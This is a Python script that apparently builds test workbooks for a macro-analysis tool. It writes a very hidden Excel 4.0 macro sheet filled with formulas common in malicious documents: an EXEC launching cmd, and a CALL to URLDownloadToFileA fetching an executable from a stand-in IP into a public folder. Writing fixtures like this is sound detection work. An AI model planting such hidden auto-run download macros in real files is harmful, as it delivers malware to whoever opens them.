#!/usr/bin/python3
# Builds an .xlsb workbook whose Excel 4.0 macro sheet holds the formulas
# malicious macro sheets use, for tests/cli/test_ole.sh:
#   make_xlsb.py BASE.xlsb OUT [MODE]
# BASE is excel4_sample_macro.xlsb (a macro sheet Macro1 and an Auto_Open
# name); its xl/workbook.bin gets the macro sheet very hidden (BrtBundleSh
# hsState 2) and its macro sheet's cells (BrtRowHdr, BrtFmlaBool records
# between the first row and BrtEndSheetData) are replaced by the formulas
# below, their tokens written as [MS-XLSB] 2.5.97 says (BIFF12: PtgStr with
# a 16-bit count of UTF-16 characters, PtgRef with a 32-bit row, PtgArea
# with 32-bit rows). The formulas as Excel shows them go to OUT.expected
# (cell TAB formula). MODE "cut": one formula's cce larger than its record.
# SPDX-License-Identifier: Apache-2.0
import struct, sys, zipfile

base, out = sys.argv[1:3]
mode = sys.argv[3] if len(sys.argv) > 3 else ""


def records(b):
    i = 0
    while i < len(b):
        t = b[i]
        i += 1
        if t & 0x80:
            t = (t & 0x7F) | (b[i] & 0x7F) << 7
            i += 1
        n = sh = 0
        for _ in range(4):
            c = b[i]
            i += 1
            n |= (c & 0x7F) << sh
            sh += 7
            if not c & 0x80:
                break
        yield t, b[i:i + n]
        i += n


def record(t, body):
    h = bytes([t]) if t < 0x80 else bytes([(t & 0x7F) | 0x80, t >> 7])
    n, size = len(body), b""
    while True:
        size += bytes([(n & 0x7F) | (0x80 if n > 0x7F else 0)])
        n >>= 7
        if not n:
            break
    return h + size + body


def s(text):  # PtgStr
    u = text.encode("utf-16-le")
    return b"\x17" + struct.pack("<H", len(u) // 2) + u


def i(v):  # PtgInt
    return b"\x1e" + struct.pack("<H", v)


def fv(n, f):  # PtgFuncVar (value class)
    return b"\x42" + struct.pack("<BH", n, f)


def fn(f):  # PtgFunc (value class)
    return b"\x41" + struct.pack("<H", f)


def ref(row, col):  # PtgRef, relative row and column
    return b"\x44" + struct.pack("<IH", row, col | 0xC000)


def area(r1, r2, c1, c2):  # PtgArea (reference class), relative
    return b"\x25" + struct.pack("<IIHH", r1, r2, c1 | 0xC000, c2 | 0xC000)


FORMULAS = [
    ('EXEC("cmd /c calc.exe")', s("cmd /c calc.exe") + fv(1, 0x006E)),
    ('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://198.51.100.7/x.exe",'
     '"C:\\Users\\Public\\x.exe",0,0)',
     s("urlmon") + s("URLDownloadToFileA") + s("JJCCJJ") + i(0) +
     s("http://198.51.100.7/x.exe") + s("C:\\Users\\Public\\x.exe") + i(0) + i(0) +
     fv(8, 0x0096)),
    ('CHAR(104)&"ttp"', i(104) + fn(0x006F) + s("ttp") + b"\x08"),
    ("GOTO(A1)", ref(0, 0) + fn(0x0035)),
    ("SUM(B1:C3)", area(0, 2, 1, 2) + fv(1, 0x0004)),
    ('ALERT("警告: マクロ")', s("警告: マクロ") + fv(1, 0x8076)),
    ("HALT()", fv(0, 0x0036)),
]

z = zipfile.ZipFile(base)
parts = {n: z.read(n) for n in z.namelist()}
wb = b""
for t, body in records(parts["xl/workbook.bin"]):
    if t == 0x9C and "Macro1".encode("utf-16-le") in body:
        body = struct.pack("<I", 2) + body[4:]
    wb += record(t, body)
parts["xl/workbook.bin"] = wb
sheet, skipping, row_body = b"", False, None
for t, body in records(parts["xl/macrosheets/sheet1.bin"]):
    if t == 0x00 and row_body is None:  # the first row: ours instead
        row_body = body
        skipping = True
        for r, (_, rgce) in enumerate(FORMULAS):
            sheet += record(0x00, struct.pack("<I", r) + row_body[4:])
            cce = 0x7FFFFFFF if mode == "cut" and r == 2 else len(rgce)
            cell = struct.pack("<II", 0, 0) + b"\x00" + struct.pack("<HI", 0, cce) + rgce
            sheet += record(0x0A, cell + struct.pack("<I", 0))
        continue
    if skipping and t != 0x92:  # up to BrtEndSheetData
        continue
    skipping = False
    sheet += record(t, body)
parts["xl/macrosheets/sheet1.bin"] = sheet
with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as o:
    for n in z.namelist():
        o.writestr(n, parts[n])
with open(out + ".expected", "w", encoding="utf-8") as f:
    for r, (text, _) in enumerate(FORMULAS):
        f.write("A%d\t%s\n" % (r + 1, text))
